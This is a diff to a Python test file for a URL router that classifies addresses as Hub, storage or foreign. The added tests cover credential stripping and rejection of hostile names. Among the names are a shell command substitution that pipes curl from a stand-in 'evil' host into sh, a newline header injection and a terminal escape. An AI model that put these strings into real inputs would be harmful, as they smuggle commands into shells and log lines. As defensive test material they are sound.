@@ -64,6 +64,9 @@ def test_route_on_the_hub(method: str, path: str, step: str, target: str) -> Non
         ("https://cas-bridge.xethub.hf.co/xet", STORAGE, "other"),
         ("https://hf-hub-lfs-us-east-1.s3-accelerate.amazonaws.com/repos/x", STORAGE, "other"),
         ("https://huggingface.co/xorbs/default/x", STORAGE, "other"),
+        ("https://s3.amazonaws.com/hf-hub/x", FOREIGN, "other"),
+        ("https://mybucket.s3.amazonaws.com/x", FOREIGN, "other"),
+        ("https://s3-proj.endpoints.huggingface.cloud/x", HUB, "inference"),
         ("https://api.example.org/v1", FOREIGN, "other"),
         ("https://nothuggingface.co/a/b", FOREIGN, "other"),
         ("https://huggingface.co.evil.org/a/b", FOREIGN, "other"),
@@ -81,11 +84,13 @@ def test_route_by_host(url: str, host: str, step: str) -> None:
 def test_route_of_the_configured_endpoint(monkeypatch: pytest.MonkeyPatch) -> None:
     """The endpoint of the client is the Hub, also with a path of its own."""
     monkeypatch.setenv("HF_ENDPOINT", "https://mirror.example.org/hub/")
-    route = Route("https://user:secret@mirror.example.org/hub/api/models/a/b")
-    assert route.host == FOREIGN  # with credentials it is another address
-    route = Route("https://mirror.example.org/hub/api/models/a/b")
-    assert (route.host, str(route.target)) == (HUB, "a/b")
-    assert route.place == "https://mirror.example.org"
+    for place in ("user:secret@mirror.example.org", "Mirror.Example.org:443"):
+        route = Route(f"https://{place}/hub/api/models/a/b")
+        assert (route.host, str(route.target)) == (HUB, "a/b")
+        assert "secret" not in route.place
+    assert Route("http://mirror.example.org/hub/api/models/a/b").host == FOREIGN
+    monkeypatch.setenv("HF_ENDPOINT", "http://[bad")
+    assert Route(f"{H}/api/models/a/b").host == HUB
 
 
 def test_route_without_a_value() -> None:
@@ -94,6 +99,14 @@ def test_route_without_a_value() -> None:
     assert (route.target, route.file) == (None, "datasets/alice/None")
     assert "a variable had no value" in route.fault
     assert not Route(f"{H}/api/models/a--b/c").fault
+
+
+@pytest.mark.parametrize("name", ["v1%0Ahftoken-guard:%20ok", "$(curl%20evil|sh)", "%1b[2J"])
+def test_route_names_that_could_do_harm(name: str) -> None:
+    """What cannot stand in a command or a line of ours is left out."""
+    assert str(Route(f"{H}/api/models/a/b/revision/{name}").target) == "a/b"
+    assert str(Route(f"{H}/a/b/resolve/{name}/x").target) == "a/b"
+    assert Route(f"{H}/a/b/resolve/main/{name}").file == ""
 
 
 def test_route_names_the_file() -> None:
